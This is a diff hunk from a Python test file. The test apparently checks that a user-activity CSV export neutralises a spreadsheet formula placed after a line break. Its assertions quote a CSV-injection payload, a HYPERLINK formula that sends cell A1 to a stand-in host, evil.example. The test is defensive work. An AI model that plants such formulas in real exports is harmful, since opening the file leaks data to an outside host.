@@ -171,4 +171,3 @@ def test_user_activity_csv_neutralises_a_formula_after_a_line_break(sim, run_pla
     assert evil[0] == "eve@acme.com\n'" + FORMULA and evil[3].startswith("iOS\n'" + FORMULA)
     assert '"eve@acme.com\n\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open report"")"' in text
     assert len(rows) == 1 + report['summary']['users']
-
